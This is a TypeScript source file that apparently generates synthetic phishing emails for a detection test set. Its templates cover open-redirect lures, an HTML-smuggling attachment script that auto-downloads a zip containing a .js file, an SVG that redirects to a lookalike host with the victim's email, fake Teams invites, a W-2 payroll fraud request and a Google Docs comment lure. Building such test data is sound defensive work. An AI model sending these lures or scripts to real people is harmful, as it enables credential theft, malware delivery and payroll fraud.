    kind: 'open-redirect',
    make(r) {
      const host = r.pick(['secure-msgcenter.com', 'encrypted-mailview.net', 'sharedmsg-portal.com']);
      const to = staff(r);
      const target = `https://${host}/m/${hex(r, 10)}?e=${b64url(to.email)}`;
      const url = r.pick([
        `https://www.google.com/url?q=${encodeURIComponent(target)}&sa=D&sntz=1&usg=AOvVaw${alnum(r, 22)}`,
        `https://www.bing.com/ck/a?!&&p=${hex(r, 48)}&ptn=3&ver=2&hsh=3&u=a1${b64url(target)}&ntb=1`,
        `https://l.facebook.com/l.php?u=${encodeURIComponent(target)}&h=AT${alnum(r, 20)}`,
      ]);
      const sender = outsider(r);
      const l = letter({
        brand: { name: 'Secure Message', color: '#2b5797' },
        paras: [
          `You have received an encrypted message from ${name(sender)} (${sender.first.toLowerCase()}@${r.pick(['stewart.com', 'firstam.com', 'chase.com', 'wellsfargo.com'])}).`,
          `Subject: ${r.pick(['Payoff statement', 'Closing funds confirmation', 'Signed documents', 'Account statement'])}`,
          'To view the message, click the button below and sign in with your email address.',
        ],
        button: { text: 'Read Message', url },
        footer: ['Secured by encrypted email delivery. This message expires in 7 days.'],
      });
      return {
        from: mailbox('Encrypted Message', `securemail@${host}`),
        to: to.email,
        subject: r.pick([
          `Encrypted message from ${name(sender)}`,
          '[SECURE] You have a new encrypted message',
          'Secure Message Notification',
        ]),
        html: l.html,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'remittance-html-smuggling',
    kind: 'html-smuggling',
    make(r) {
      const who = outsider(r);
      const host = r.pick(['payments-remit.net', 'ach-remittance.com', 'ap-notify.info']);
      const to = r.pick([staff(r, 'accountant'), staff(r, 'office')]);
      const amt = money(r, 4000, 68000);
      const blob = zipOf(`Remittance_${digits(r, 6)}.js`).toString('base64');
      const page = `<html><body><p>Preparing your document...</p><script>var b="${blob}";var a=atob(b);var u=new Uint8Array(a.length);for(var i=0;i<a.length;i++)u[i]=a.charCodeAt(i);var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u],{type:"application/zip"}));l.download="Remittance_Advice.zip";document.body.appendChild(l);l.click();</script></body></html>`;
      return {
        from: mailbox(`${name(who)} - Accounts Payable`, `ap@${host}`),
        to: addr(to),
        subject: r.pick([
          `Remittance Advice - ACH Payment ${amt}`,
          `Payment sent: ${amt}`,
          'ACH remittance attached',
        ]),
        text: `Hello,\n\nAn ACH payment of ${amt} has been sent to your account. See attached remittance advice for invoice details.\n\nRegards,\n${name(who)}`,
        parts: [
          { type: 'text/html', name: `Remittance_Advice_${digits(r, 5)}.html`, content: Buffer.from(page) },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'calendar-invite-compensation',
    kind: 'calendar-invite-lure',
    make(r, d) {
      const host = r.pick(['teams-meeting-join.com', 'msteams-invite.net', 'meet-teamslive.com']);
      const organizer = staff(r, 'partner');
      const to = staff(r);
      const url = `https://${host}/l/meetup-join/19%3ameeting_${alnum(r, 32)}%40thread.v2/0?context=${b64url(to.email)}`;
      const topic = r.pick([
        '2025 Compensation Review - Confidential',
        'Partner Meeting: Restructuring',
        'HR: Performance Discussion',
        'Year-end bonus allocation',
      ]);
      const start = addDays(d, int(r, 1, 4));
      const sender = `calendar@${host}`;
      return {
        from: mailbox(name(organizer), sender),
        to: addr(to),
        subject: `Invitation: ${topic} @ ${weekday(start)} ${longDate(start)}`,
        text: `${name(organizer)} has invited you to a Microsoft Teams meeting.\n\n${topic}\n\nJoin the meeting: ${url}\n\nPlease sign in with your work account to join.`,
        calendar: invitation({
          uid: `${guid(r)}@${host}`,
          organizer: sender,
          attendee: to.email,
          summary: topic,
          description: `Join Microsoft Teams Meeting: ${url}`,
          location: 'Microsoft Teams Meeting',
          start: `${start.toISOString().slice(0, 10).replace(/-/g, '')}T${int(r, 14, 21)}0000Z`,
        }),
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'svg-payment-confirmation',
    kind: 'svg-attachment',
    make(r) {
      const host = r.pick(['payconfirm-docs.com', 'invoice-viewer.net', 'ach-confirm.info']);
      const to = staff(r);
      const svg = `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="10" y="50">Loading...</text><script type="text/javascript"><![CDATA[window.location.href="https://${host}/v/${hex(r, 12)}#${to.email}";]]></script></svg>`;
      return {
        from: mailbox(
          r.pick(['Payments', 'Accounts Receivable', name(outsider(r))]),
          `${r.pick(['ar', 'payments', 'noreply'])}@${host}`,
        ),
        to: to.email,
        subject: r.pick(['Payment confirmation', `ACH Confirmation #${digits(r, 8)}`, 'Paid Invoice']),
        text: r.pick(['Please see attached.', 'Payment confirmation attached for your records.', '']),
        parts: [
          { type: 'image/svg+xml', name: `ACH_Confirmation_${digits(r, 6)}.svg`, content: Buffer.from(svg) },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'w2-request-managing-partner',
    kind: 'w2-data-theft-bec',
    make(r) {
      const boss = r.pick([staff(r, 'partner')]);
      const look = r.pick(['corp-example.com', 'corp-exampie.com', 'corpexample.net']);
      const to = r.pick([staff(r, 'office'), staff(r, 'accountant')]);
      const text = r.pick([
        [
          `${to.first},`,
          '',
          `I need the ${r.pick(['2024', '2025'])} W-2s for all staff in PDF for a review with our outside accountants. Please send them to me as soon as you can today.`,
          '',
          boss.first,
        ],
        [
          `Hi ${to.first},`,
          '',
          'Can you pull the employee W-2 forms and the payroll summary for the year and email them to me? Need for a meeting this afternoon. Keep this confidential for now.',
          '',
          'Thanks',
          name(boss),
        ],
      ]);
      return {
        from: mailbox(name(boss), `${boss.email.split('@')[0]}@${look}`),
        replyTo: r.below(2)
          ? `${boss.first.toLowerCase()}.${boss.last.toLowerCase()}@${r.pick(['gmail.com', 'outlook.com'])}`
          : undefined,
        to: addr(to),
        subject: r.pick(['W-2s', 'Request', 'Employee tax forms']),
        text: text.join('\n'),
        auth: owned(r, look),
      };
    },
  },
  {
    id: 'copyright-notice-firebase',
    kind: 'legal-threat-lure',
    make(r) {
      const who = outsider(r);
      const from = freemail(r, who);
      const url = `https://firebasestorage.googleapis.com/v0/b/${alnum(r, 10)}.appspot.com/o/Evidence_${digits(r, 5)}.zip?alt=media&token=${guid(r)}`;
      const text = [
        'Hello,',
        '',
        `My name is ${name(who)}, I am a ${r.pick(['professional photographer', 'illustrator', 'graphic designer'])}. I discovered that images I own are being used on the website of ${FIRM} without my permission or license.`,
        '',
        `This is a violation of the Digital Millennium Copyright Act. I have prepared a file with the images and proof of my ownership: ${url}`,
        '',
        'Remove the images within 24 hours or I will file a lawsuit and demand statutory damages up to $150,000 per work.',
        '',
        name(who),
      ];
      return {
        from: mailbox(name(who), from),
        to: r.pick([`info@${DOMAIN}`, `webmaster@${DOMAIN}`, staff(r, 'it').email]),
        subject: r.pick([
          'Copyright Infringement Notice',
          'DMCA Notice - Unauthorized use of my images',
          'Legal notice: copyright violation on your site',
        ]),
        text: text.join('\n'),
        html: r.below(2) ? noteHtml(text) : undefined,
        auth: free(from),
      };
    },
  },
  {
    id: 'google-docs-comment-abuse',
    kind: 'legit-service-abuse',
    make(r) {
      const who = outsider(r);
      const to = staff(r);
      const doc = r.pick([
        'Closing Funds Verification',
        'Client Payment Confirmation',
        'Q3 Trust Reconciliation',
        'Wire Authorization Form',
      ]);
      const docId = alnum(r, 44);
      const lure = `https://${r.pick(['verify-closingfunds.com', 'docsecure-review.net'])}/${hex(r, 8)}`;
      const url = `https://docs.google.com/document/d/${docId}/edit?disco=AAAA${alnum(r, 11)}&usp=comment_email_document`;
      const html = `<div style="font-family:Roboto,Arial;font-size:14px;max-width:560px"><p><b>${name(who)}</b> mentioned you in a comment in the following document</p><p style="font-size:18px"><a href="${url}">${doc}</a></p><div style="border-left:3px solid #fbbc04;padding:8px 12px;background:#fafafa">@${to.email} ${r.pick(['Please review the pending wire authorization here', 'Urgent: your signature is required, open secure copy'])}: ${lure}</div><p><a href="${url}" style="background:#1a73e8;color:#fff;padding:8px 18px;text-decoration:none;border-radius:4px">Reply</a></p><p style="font-size:11px;color:#777">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because you are mentioned in this thread.</p></div>`;
      return {
        from: mailbox(`${name(who)} (Google Docs)`, 'comments-noreply@docs.google.com'),
        replyTo: `${name(who)} <${freemail(r, who, ['gmail.com'])}>`,
        to: to.email,
        subject: r.pick([`${doc} - New comment`, `${name(who)} mentioned you in "${doc}"`]),
        html,
        auth: pass('docs.google.com', 'doclist.bounces.google.com', 'google.com'),
        relay: `mail-sor-f${int(r, 41, 73)}.google.com`,
        messageIdDomain: 'docs-share.google.com',
      };
    },
  },
];

const TEMPLATES_19: readonly Template[] = [...phishing, ...LOCAL_PHISHING_19];
export const UNSEEN_19_TEMPLATE_COUNT: number = TEMPLATES_19.length;
export const UNSEEN_19_KINDS: readonly string[] = [...new Set(TEMPLATES_19.map((t) => t.kind))];

export async function unseenPhishing19(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return generate(TEMPLATES_19, perTemplate, seed, seededRandom);
}
